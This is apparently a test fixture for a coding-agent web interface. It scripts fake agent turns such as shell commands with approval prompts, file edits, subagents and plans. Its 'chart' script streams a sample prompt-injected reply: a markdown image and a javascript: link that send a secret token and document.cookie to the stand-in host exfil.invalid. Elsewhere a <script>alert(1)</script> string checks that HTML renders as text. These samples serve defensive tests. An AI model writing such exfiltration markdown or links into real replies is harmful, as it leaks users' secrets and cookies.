import type { FileChange, Interaction, InteractionAnswer, SdkTodo, Task, ToolUseBlock } from '@outrigger/host-api';
import { tool as toolBlock } from '../../src/data/testing/fixtures.ts';
import { binaryFile, type FakeFile, type Tree } from './fakeFiles.ts';
import type { FakeSession } from './fakeSession.ts';

/** What a scripted turn can do; every wait rejects when the turn is canceled. */
export class TurnIO {
  readonly session: FakeSession;
  readonly turnId: string;
  readonly signal: AbortSignal;
  /** The block being streamed, so a cancel can mark it interrupted. */
  streaming: { messageId: string; kind: 'text' | 'thinking'; text: string } | null = null;
  readonly speed: number;

  constructor(session: FakeSession, turnId: string, signal: AbortSignal, speed: number) {
    this.session = session;
    this.turnId = turnId;
    this.signal = signal;
    this.speed = speed;
  }

  /** Waits `ms` scaled by the host's speed; `unscaled` keeps real time (a stream meant to be stopped). */
  sleep(ms: number, unscaled = false): Promise<void> {
    return new Promise((resolve, reject) => {
      if (this.signal.aborted) return reject(this.signal.reason);
      const timer = setTimeout(resolve, unscaled ? ms : ms * this.speed);
      this.signal.addEventListener(
        'abort',
        () => {
          clearTimeout(timer);
          reject(this.signal.reason);
        },
        { once: true },
      );
    });
  }

  async stream(kind: 'text' | 'thinking', text: string, chunk = 12, delayMs = 25, unscaled = false): Promise<void> {
    const messageId = this.session.nextRowId();
    this.streaming = { messageId, kind, text: '' };
    for (let index = 0; index < text.length; index += chunk) {
      const delta = text.slice(index, index + chunk);
      this.session.emit(kind, { turnId: this.turnId, messageId, delta, final: false, interrupted: false });
      this.streaming.text += delta;
      await this.sleep(delayMs, unscaled);
    }
    this.session.emit(kind, { turnId: this.turnId, messageId, delta: '', final: true, text, interrupted: false });
    this.streaming = null;
  }

  tool(
    name: string,
    input: Record<string, unknown>,
    extra: Partial<ToolUseBlock> = {},
  ): { messageId: string; tool: ToolUseBlock } {
    const messageId = this.session.nextRowId();
    const tool = toolBlock({ id: `tu-${messageId}`, name, callType: 'tool', input, startedAt: Date.now(), ...extra });
    this.session.emit('tool_use', { turnId: this.turnId, messageId, tool });
    return { messageId, tool };
  }

  output(call: { messageId: string; tool: ToolUseBlock }, output: string): void {
    this.session.emit('tool_output', {
      turnId: this.turnId,
      messageId: call.messageId,
      tool_use_id: call.tool.id,
      output,
    });
  }

  result(
    call: { messageId: string; tool: ToolUseBlock },
    content: string,
    options: { isError?: boolean; source?: 'hook' | 'canonical' | 'synthesized' } = {},
  ): void {
    const preview = 2000;
    this.session.fullResults.set(call.tool.id, content);
    // As the host: the result event carries the stored call, ended on the host's clock, with its outcome.
    const current = this.session.toolCall(call.tool.id)?.tool ?? call.tool;
    const refused = ['denied', 'skipped', 'kept_planning'].includes(current.decision?.choice ?? '');
    const failed = options.isError === true;
    const tool: ToolUseBlock = {
      ...current,
      status: failed ? 'failed' : 'completed',
      endedAt: current.endedAt ?? Date.now(),
      outcome: !failed ? 'completed' : refused ? 'denied' : options.source === 'synthesized' ? 'stopped' : 'failed',
    };
    this.session.emit('tool_result', {
      turnId: this.turnId,
      messageId: call.messageId,
      tool_use_id: call.tool.id,
      tool,
      status: options.isError === true ? 'failed' : 'completed',
      result: {
        type: 'tool_result',
        tool_use_id: call.tool.id,
        content: content.length > preview ? content.slice(0, preview) : content,
        is_error: options.isError === true,
        resultSource: options.source ?? 'canonical',
        truncated: content.length > preview,
        length: content.length,
      },
    });
  }

  /** Raises an interaction and waits for the person's answer. */
  async ask(
    call: { messageId: string; tool: ToolUseBlock },
    kind: Interaction['kind'],
    options: Interaction['options'],
    extra: Partial<Interaction> = {},
  ): Promise<InteractionAnswer> {
    const interaction: Interaction = {
      requestId: `req-${call.tool.id}`,
      session_id: this.session.id,
      turnId: this.turnId,
      kind,
      toolName: call.tool.name,
      tool_use_id: call.tool.id,
      input: call.tool.input,
      options,
      agentId: null,
      parentToolUseId: call.tool.parentToolUseId,
      status: 'pending',
      answer: null,
      resolution: null,
      createdAt: Date.now(),
      resolvedAt: null,
      ...extra,
    };
    const answered = new Promise<InteractionAnswer>((resolve, reject) => {
      this.session.pending.set(interaction.requestId, { interaction, resolve });
      this.signal.addEventListener('abort', () => reject(this.signal.reason), { once: true });
    });
    this.session.emit('permission_request', { turnId: this.turnId, interaction });
    this.session.publishHost({ type: 'permission_request', data: { session_id: this.session.id, interaction } });
    this.session.publishStatus();
    return answered;
  }

  plan(todos: SdkTodo[]): void {
    const now = Date.now();
    const tasks: Task[] = todos.map((todo, index) => ({
      id: `sdk-${this.session.id}-${index}`,
      session_id: this.session.id,
      title: todo.content,
      status: todo.status === 'completed' || todo.status === 'in_progress' ? todo.status : 'pending',
      description: todo.activeForm ?? null,
      sort_order: index,
      source: 'sdk',
      created_at: now,
      updated_at: now,
    }));
    this.session.emit('task_update', { turnId: this.turnId, todos, tasks });
  }
}

const approvalOptions: Interaction['options'] = [
  { kind: 'allow_once', name: 'Allow', optionId: 'allow' },
  { kind: 'allow_always', name: 'Allow for this session', optionId: 'allow_always' },
  { kind: 'reject_once', name: 'Deny', optionId: 'reject' },
];

async function approved(
  io: TurnIO,
  call: { messageId: string; tool: ToolUseBlock },
  key: string,
): Promise<InteractionAnswer | null> {
  if (io.session.allowedForSession.has(key)) return null;
  // What "Allow for this session" covers, as the sidecar reports it: here the rule Claude Code would suggest.
  const command = typeof call.tool.input.command === 'string' ? call.tool.input.command : null;
  const rules = command === null ? [] : [`${call.tool.name}(${command.split(' ')[0]}:*)`];
  const options = approvalOptions.map((option) =>
    option.optionId === 'allow_always' ? { ...option, sessionGrant: { rules, directories: [] } } : option,
  );
  const answer = await io.ask(call, 'approval', options);
  if (answer.optionId === 'allow_always') io.session.allowedForSession.add(key);
  return answer;
}

const markdownAnswer = `## A streamed markdown answer

Outrigger renders **bold**, *italics*, \`inline code\`, lists and tables as they stream:

1. The sidecar speaks protocol 10 over stdin/stdout.
2. The host stores each event in SQLite before publishing it.
3. The browser follows along over Server-Sent Events.

| layer | keeps | survives |
| --- | --- | --- |
| sidecar | the live Claude Code query | a turn |
| host | every event, in order | a restart |
| browser | nothing it cannot rebuild | a reload |

\`\`\`ts
const answer = await client.call('postTurn', { params: { id }, body: { prompt, clientMessageId } });
console.log(answer.turnId); // the same id on a retry
\`\`\`

Raw HTML such as <b>this</b> or <script>alert(1)</script> is shown as text, never run.`;

const slowAnswer = `This is the slow demo answer. It streams a few characters at a time for about twenty seconds, so you have time to press Stop and watch Outrigger end the turn.

Outrigger keeps every turn durable: each event is committed before it reaches your browser, and a reload picks up exactly where the stream was. ${'The answer goes on, and on, one small piece at a time. '.repeat(12)}`;

/**
 * What a prompt-injected reply would write to get data out: an image whose URL carries it (fetched the moment
 * an `<img>` renders) and a `javascript:` link. `exfilHost` is a name that resolves nowhere, so a test can
 * watch for any request to it.
 */
export const exfilHost = 'exfil.invalid';
const exfilAnswer = `Here is the chart you asked for: ![the usage chart](http://${exfilHost}/collect?d=secret-token)

And [a harmless-looking link](javascript:fetch('http://${exfilHost}/?d='+document.cookie)) next to [the docs](https://example.com/docs).`;

export type TurnScript = (io: TurnIO, prompt: string) => Promise<void>;

function writeText(
  files: Tree,
  path: string,
  text: string,
  mode: FakeFile['mode'] = files.get(path)?.mode ?? '100644',
) {
  files.set(path, { text, mode, binary: false });
}

/** The edit script's shell command, on the folder's files: each step does what its part of the command would. */
function tidyUp(files: Tree): void {
  writeText(files, 'notes/todo.md', `${files.get('notes/todo.md')?.text ?? '# To do\n\n'}- [ ] say hello\n`);
  const build = files.get('scripts/build.sh');
  if (build !== undefined) files.set('scripts/build.sh', { ...build, mode: '100755' });
  const setup = files.get('docs/setup.md');
  if (setup !== undefined) {
    files.delete('docs/setup.md');
    files.set('docs/install.md', setup);
  }
  files.delete('build.log');
  files.set('assets/logo.png', binaryFile(`v${Date.now()}`));
  const greet = files.get('src/greet.ts');
  if (greet !== undefined)
    writeText(
      files,
      'src/greet.ts',
      greet.text
        .replace('lines.push(greet(name))\n', 'lines.push(greet(name));\n')
        .replace('lines.join("\\n")', "lines.join('\\n')")
        .replace('defaultName = "world"\n', "defaultName = 'world';\n"),
    );
}

/** Scripted turns keyed by a word in the prompt, like the demo model's. */
export const turnScripts: readonly (readonly [RegExp, TurnScript])[] = [
  [/\bmarkdown\b/i, async (io) => io.stream('text', markdownAnswer, 24, 20)],
  [/\bchart\b/i, async (io) => io.stream('text', exfilAnswer, 24, 20)],
  [
    /\b(think|reason)\b/i,
    async (io) => {
      await io.stream(
        'thinking',
        'The user wants to see thinking. I will reason briefly, then answer in one sentence.',
        10,
        40,
      );
      await io.stream('text', 'Thinking blocks stream before the answer, and Outrigger folds them above it.');
    },
  ],
  [
    /\b(run|command|bash|shell)\b/i,
    async (io) => {
      await io.stream(
        'text',
        "I'll create a small file with a shell command. Outrigger asks for your permission first.",
      );
      const command =
        "mkdir -p outrigger-demo && echo 'Hello from the Outrigger demo' > outrigger-demo/hello.txt && cat outrigger-demo/hello.txt";
      const call = io.tool('Bash', { command, description: 'Create a demo file' }, { callType: 'command' });
      const answer = await approved(io, call, 'Bash');
      if (answer?.action === 'reject') {
        io.result(
          call,
          `The user denied this command${typeof answer.payload.denyMessage === 'string' ? `: ${answer.payload.denyMessage}` : ''}`,
          { isError: true },
        );
        await io.stream('text', 'Understood, the command did not run and nothing was changed.');
        return;
      }
      io.output(call, 'Hello from the Outrigger demo');
      await io.sleep(300);
      io.result(call, 'Hello from the Outrigger demo', { source: 'hook' });
      io.result(call, 'Hello from the Outrigger demo');
      await io.stream(
        'text',
        "Done: the command created `outrigger-demo/hello.txt` in the session's working directory.",
      );
    },
  ],
  [
    /\b(todo|todos|plan)\b/i,
    async (io) => {
      const steps = ['Read the project layout', 'Summarise the architecture', 'Suggest a next step'];
      const forms = ['Reading the project layout', 'Summarising the architecture', 'Suggesting a next step'];
      const todos = (current: number): SdkTodo[] =>
        steps.map((content, index) => ({
          content,
          status: index < current ? 'completed' : index === current ? 'in_progress' : 'pending',
          activeForm: forms[index],
        }));
      await io.stream('text', "I'll make a short plan and work through it step by step.");
      for (let step = 0; step <= steps.length; step++) {
        const call = io.tool('TodoWrite', { todos: todos(step) }, { callType: 'tool' });
        io.plan(todos(step));
        io.result(call, 'Todos have been modified successfully.', { source: 'hook' });
        io.result(call, 'Todos have been modified successfully.');
        if (step < steps.length) await io.stream('text', `Step ${step + 1}: ${forms[step]}… done.`);
        await io.sleep(400);
      }
      await io.stream('text', 'All three steps are done.');
    },
  ],
  [
    /\b(ask|question|choose)\b/i,
    async (io) => {
      const input = {
        questions: [
          {
            id: 'q-database',
            question: 'Which database should the demo app use?',
            header: 'Database',
            multiSelect: false,
            options: [
              { label: 'SQLite', description: 'One file, no server; great for a single machine.' },
              { label: 'PostgreSQL', description: 'A server; the choice once several hosts share data.' },
            ],
          },
          {
            id: 'q-extras',
            question: 'Which extras should it have?',
            header: 'Extras',
            multiSelect: true,
            options: [{ label: 'Authentication' }, { label: 'A cache' }, { label: 'Metrics' }],
          },
        ],
      };
      const call = io.tool('AskUserQuestion', input, { callType: 'interactive' });
      const answer = await io.ask(call, 'question', [{ kind: 'allow_once', name: 'Answer', optionId: 'allow' }]);
      if (answer.action === 'reject') {
        io.result(call, 'The user skipped the question.', { isError: true });
        await io.stream('text', 'No problem, we can decide later.');
        return;
      }
      const answers = (answer.payload.answersByQuestionId ?? {}) as Record<string, string | string[]>;
      const text = Object.entries(answers)
        .map(([id, value]) => `${id}: ${Array.isArray(value) ? value.join(', ') : value}`)
        .join('\n');
      io.result(call, text);
      await io.stream('text', `Thanks. You chose ${String(answers['q-database'] ?? 'nothing')}.`);
    },
  ],
  [
    /\bedit\b/i,
    async (io) => {
      const files = io.session.checkpoints.files;
      const source = files.get('src/greet.ts')?.text ?? '';
      // A second edit of the same folder finds the typo fixed and makes the greeting warmer instead.
      const [oldText, newText] = source.includes("'Helo'")
        ? ["export const greeting = 'Helo';", "export const greeting = 'Hello';"]
        : ["export const greeting = 'Hello';", "export const greeting = 'Hello there';"];
      await io.stream('text', "I'll fix the greeting in `src/greet.ts`.");
      const fileChange: FileChange = {
        path: '/work/project/src/greet.ts',
        operation: 'edit',
        edits: [{ oldText, newText }],
      };
      const call = io.tool(
        'Edit',
        { file_path: fileChange.path, old_string: oldText, new_string: newText },
        { callType: 'file_change', fileChange, locations: [fileChange.path] },
      );
      const answer = await approved(io, call, 'Edit');
      if (answer?.action === 'reject') {
        io.result(call, 'The user denied the edit.', { isError: true });
        return;
      }
      const line = source.split('\n').indexOf(oldText) + 1;
      writeText(files, 'src/greet.ts', source.replace(oldText, newText));
      const patched: FileChange = {
        ...fileChange,
        structuredPatch: [
          {
            oldStart: line,
            oldLines: 3,
            newStart: line,
            newLines: 3,
            lines: [`-${oldText}`, `+${newText}`, ' ', ' export function greet(name: string) {'],
          },
        ],
      };
      io.session.emit('tool_use', {
        turnId: io.turnId,
        messageId: call.messageId,
        tool: { ...call.tool, fileChange: patched, status: 'completed', endedAt: Date.now() },
      });
      io.result(call, 'The file /work/project/src/greet.ts has been updated.');
      await io.sleep(300);
      // What no Edit call shows: a command writes, moves, deletes and formats files; the checkpoints see it all.
      const command =
        "mkdir -p notes && echo '- [ ] say hello' >> notes/todo.md && chmod +x scripts/build.sh && git mv docs/setup.md docs/install.md && rm -f build.log && node scripts/logo.js > assets/logo.png && npx prettier --write src/greet.ts";
      const tidy = io.tool('Bash', { command, description: 'Tidy up the project' }, { callType: 'command' });
      await io.sleep(300);
      tidyUp(files);
      io.result(tidy, 'src/greet.ts 12ms');
      await io.stream('text', 'Fixed the typo.');
    },
  ],
  [
    /\b(agent|explore)\b/i,
    async (io) => {
      await io.stream('text', "I'll ask a subagent to explore the code.");
      const agent = io.tool(
        'Agent',
        { description: 'Explore the code base', prompt: 'Find the HTTP routes' },
        { callType: 'subagent' },
      );
      const task = (status: string, lastToolName: string | null) => ({
        taskId: 'task-1',
        agentId: 'explorer',
        status,
        description: 'Explore the code base',
        summary: status === 'completed' ? 'Found 22 routes in routes.ts' : null,
        lastToolName,
        usage: null,
        updatedAt: Date.now(),
      });
      io.session.emit('agent_task', {
        turnId: io.turnId,
        messageId: agent.messageId,
        tool_use_id: agent.tool.id,
        task: task('running', null),
      });
      const grep = io.tool(
        'Grep',
        { pattern: 'hostRoutes', path: 'packages' },
        { callType: 'tool', parentToolUseId: agent.tool.id },
      );
      await io.sleep(500);
      io.result(grep, 'packages/host-api/src/routes.ts:59\npackages/host-api/src/client/hostClient.ts:3');
      io.session.emit('agent_task', {
        turnId: io.turnId,
        messageId: agent.messageId,
        tool_use_id: agent.tool.id,
        task: task('running', 'Grep'),
      });
      const read = io.tool(
        'Read',
        { file_path: 'packages/host-api/src/routes.ts' },
        { callType: 'tool', parentToolUseId: agent.tool.id },
      );
      await io.sleep(500);
      io.result(read, 'export const hostRoutes = defineRoutes({\n  info: { … },\n  …\n});');
      io.session.emit('agent_task', {
        turnId: io.turnId,
        messageId: agent.messageId,
        tool_use_id: agent.tool.id,
        task: task('completed', 'Read'),
      });
      io.result(agent, 'Found 22 routes in packages/host-api/src/routes.ts.');
      await io.stream('text', 'The subagent found 22 routes.');
    },
  ],
  // Real time whatever the speed: about 8 s, always long enough to be stopped, reloaded or steered.
  [/\b(slow|long|cancel)\b/i, async (io) => io.stream('text', slowAnswer, 4, 35, true)],
  [
    /\b(exit|approve)\b/i,
    async (io) => {
      const plan = '## Plan\n\n1. Add a `/health` route.\n2. Test it.\n3. Document it in `docs/host-api.md`.';
      const call = io.tool('ExitPlanMode', { plan }, { callType: 'interactive' });
      const answer = await io.ask(call, 'plan', [
        { kind: 'allow_once', name: 'Yes, and accept edits', optionId: 'acceptEdits' },
        { kind: 'allow_once', name: 'Yes, and ask', optionId: 'default' },
        { kind: 'reject_once', name: 'No, keep planning', optionId: 'plan' },
      ]);
      if (answer.action === 'reject') {
        io.result(call, 'The user wants to keep planning.', { isError: true });
        await io.stream('text', 'OK, I will refine the plan.');
        return;
      }
      io.result(call, 'User approved the plan.');
      io.session.emit('mode_changed', { permissionMode: answer.optionId as 'acceptEdits', planMode: false });
      await io.stream('text', 'Plan approved; starting now.');
    },
  ],
  [
    /\bfail\b/i,
    async (io) => {
      await io.stream('text', 'Calling the API…');
      throw Object.assign(new Error('The API rejected the key (401).'), {
        code: 'authentication_failed',
        apiErrorStatus: 401,
      });
    },
  ],
  [
    /\boutput\b/i,
    async (io) => {
      const call = io.tool('Bash', { command: 'npm test' }, { callType: 'command' });
      io.session.allowedForSession.add('Bash');
      const lines: string[] = [];
      for (let line = 1; line <= 60; line++) {
        lines.push(`ok ${line} - test number ${line} passes ${'.'.repeat(40)}`);
        if (line % 10 === 0) {
          io.output(call, lines.join('\n'));
          await io.sleep(150);
        }
      }
      io.result(call, lines.join('\n').repeat(3));
      await io.stream('text', 'All 60 tests pass.');
    },
  ],
];

/** Scripts that need the host's hands (compaction notices, work that outlives the turn). */
export const hostScripts: readonly (readonly [RegExp, TurnScript])[] = [
  [
    /\bcompact\b/i,
    async (io) => {
      await io.stream('text', 'The context is getting long; Claude Code compacts it now.');
      const notice = (text: string) =>
        io.session.emit('notice', {
          turnId: io.turnId,
          message: {
            id: io.session.nextRowId(),
            session_id: io.session.id,
            turnId: io.turnId,
            position: 0,
            role: 'system',
            status: 'complete',
            content: [{ type: 'text', text }],
            noticeKind: 'compaction',
            steer: false,
            clientMessageId: null,
            createdAt: Date.now(),
            updatedAt: Date.now(),
          },
        });
      notice('Compacting the conversation…');
      await io.sleep(300);
      notice('Conversation compacted (182k → 24k tokens)');
      await io.stream('text', 'Done; the summary carries on from here.');
    },
  ],
  [
    /\bbackground\b/i,
    async (io) => {
      const call = io.tool(
        'Bash',
        {
          command: 'for i in 1 2 3; do echo tick $i; sleep 1; done',
          description: 'Count to three',
          run_in_background: true,
        },
        { callType: 'command', background: { taskId: 'bg-1', status: 'running' } },
      );
      io.result(call, 'Command running in background with ID: bg-1');
      const task = {
        tool_use_id: call.tool.id,
        turnId: io.turnId,
        kind: 'command' as const,
        taskId: 'bg-1',
        description: 'Count to three',
        status: 'running',
        startedAt: Date.now(),
      };
      io.session.emit('background_tasks', { turnId: io.turnId, tasks: [task] });
      await io.stream('text', 'The job runs in the background; I will report when it finishes.');
      const { session, turnId } = io;
      // Real time whatever the speed: a test must see the job running after the turn ended, also on a loaded
      // machine (at speed 0.2 the window was 600 ms, and a busy CI missed it).
      setTimeout(() => {
        session.emit('tool_use', {
          turnId,
          messageId: call.messageId,
          tool: { ...call.tool, status: 'completed', background: { taskId: 'bg-1', status: 'completed' } },
        });
        session.emit('background_tasks', { turnId: null, tasks: [] });
        session.publishStatus();
      }, 3000);
    },
  ],
];

export const fallbackScript: TurnScript = async (io) =>
  io.stream(
    'text',
    "Hi! I'm the **fixture host**: say `markdown`, `run`, `plan`, `ask`, `edit`, `agent`, `think`, `slow`, `exit`, `output` or `fail` to see a feature.",
  );
